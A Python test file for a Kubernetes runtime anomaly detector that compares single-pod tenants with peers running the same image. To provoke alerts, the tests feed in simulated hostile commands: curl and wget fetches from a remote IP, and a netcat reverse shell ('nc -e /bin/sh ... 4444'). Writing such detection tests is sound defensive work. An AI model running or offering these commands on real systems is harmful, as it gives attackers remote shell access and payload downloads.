"""A tenant's single pod has no peers; the same software that runs for other tenants stands in for them."""

import pytest
from detection.cluster import BEGIN, Cluster, Replica, alerts, analyse

from collector.analysis import Settings, behaviours
from collector.analysis.groups import Groups
from collector.records import BehaviourType, IncidentKind, Severity

DIARY, IMAGE = "/opt/diary/diaryd", "sha256:3d1a"
HOUR = 3600


def tenant(cluster: Cluster, number: int, begin: float, end: float, *, image: str = IMAGE, app: str = "diary") -> Replica:
    """Let one tenant's only pod live: its server, two helpers in turn, and its own database."""
    (pod,) = cluster.pods(1, workload="diary", namespace=f"tenant-{number}", at=begin, image=image)
    cluster.exec(begin + 0.1, pod, DIARY, parent="", args=("diaryd", "--site", app))
    at, step = begin + 2.0, 0
    while at < end:
        helper = ("thumb", "search")[step % 2]
        cluster.exec(at, pod, f"/opt/{app}/{helper}", parent=DIARY, args=(helper, "--all"))
        if not step % 5:
            cluster.connect(at + 0.2, pod, DIARY, (f"10.{number}.0.9", 5432))
        at, step = at + 11.3, step + 1
    return pod


def tenants(cluster: Cluster, count: int, end: float, *, image: str = IMAGE) -> list[Replica]:
    return [tenant(cluster, number, 17.0 * number, end, image=image) for number in range(count)]


def reasons(cluster: Cluster, until: float) -> list[str]:
    return [f"{each.severity.name} {each.reason}" for each in alerts(analyse(cluster, until=until))]


@pytest.mark.parametrize("images", [True, False])
def test_a_young_tenant_is_compared_with_the_others_of_its_image(cluster: Cluster, *, images: bool) -> None:
    tenants(cluster, 6, 2 * HOUR, image=IMAGE if images else "")
    young = tenant(cluster, 40, HOUR, 2 * HOUR, image=IMAGE if images else "")
    cluster.exec(HOUR + 500, young, "/usr/bin/curl", parent=DIARY, args=("curl", "http://203.0.113.9/a"))

    found = alerts(analyse(cluster, until=2 * HOUR))

    if not images:
        assert found == []
        return
    (alert,) = found
    assert [each.pod for each in alert.replicas] == [young.name]
    assert alert.kind is IncidentKind.NEW_BEHAVIOUR  # replicas deviate from peers; these are no replicas of one workload
    assert (alert.compared, alert.sharing) == (0, 0)
    assert "it never did before, nor did any of 6 other workloads of its image" in alert.reason


def test_what_most_others_do_is_what_the_software_does(cluster: Cluster) -> None:
    pods = tenants(cluster, 6, 6 * HOUR)
    for number, pod in enumerate(pods):
        cluster.exec((2 + 0.5 * number) * HOUR, pod, "/usr/bin/gzip", parent=DIARY, args=("gzip", "-9"))

    told = reasons(cluster, 6 * HOUR)

    assert len(told) <= 2  # of the first that did it: one alone may be an intruder


def test_who_holds_one_tenant_teaches_the_others_nothing(cluster: Cluster) -> None:
    pods = tenants(cluster, 6, 5 * HOUR)
    for at in range(30, 4 * HOUR, 60):  # from its start on, all day long
        cluster.exec(at, pods[0], "/usr/bin/wget", parent=DIARY, args=("wget", "-q", "http://203.0.113.9/b"))
    cluster.exec(4 * HOUR + 7, pods[3], "/usr/bin/wget", parent=DIARY, args=("wget", "-q", "http://203.0.113.9/b"))

    told = [each for each in alerts(analyse(cluster, until=5 * HOUR)) if each.workload.namespace == "tenant-3"]

    assert len(told) == 1
    assert "only 1 of 5 other workloads of its image did" in told[0].reason


def test_an_image_that_runs_anything_makes_no_peers(cluster: Cluster) -> None:
    for number, app in enumerate(("tide", "reef", "moor", "fen")):
        tenant(cluster, number, 13.0 * number, 2 * HOUR, app=app)
    young = tenant(cluster, 40, HOUR, 2 * HOUR, app="loch")
    cluster.exec(HOUR + 500, young, "/usr/bin/curl", parent=DIARY, args=("curl", "http://203.0.113.9/a"))

    assert reasons(cluster, 2 * HOUR) == []


def test_all_tenants_attacked_at_once_are_told(cluster: Cluster) -> None:
    for pod in tenants(cluster, 6, 3 * HOUR):
        cluster.exec(2 * HOUR, pod, "/usr/bin/nc", parent=DIARY, args=("nc", "-e", "/bin/sh", "203.0.113.9", "4444"))

    found = alerts(analyse(cluster, until=3 * HOUR))

    assert len({each.workload.namespace for each in found}) == 6
    assert min(each.severity for each in found) >= Severity.MEDIUM


def test_an_image_is_forgotten_with_its_last_workload(cluster: Cluster) -> None:
    groups = Groups(Settings(most_workloads=1))
    first, second = tenants(cluster, 2, 60)
    for pod in (first, second, first):  # each pushes the one before out
        behaviour = behaviours.restored(BehaviourType.EXEC, DIARY, (DIARY,), "")
        groups.see(pod.subject, behaviour, BEGIN)
        (group,) = groups.by_place.values()

        assert list(group.same_image.values()) == [group]
